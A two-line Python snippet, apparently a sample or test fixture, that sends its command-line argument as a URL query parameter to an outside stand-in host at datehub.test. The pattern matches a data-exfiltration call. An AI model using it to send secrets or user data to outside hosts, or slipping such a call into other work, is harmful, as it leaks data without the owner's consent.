import sys, requests
requests.get("https://in.datehub.test/?d=" + sys.argv[1])
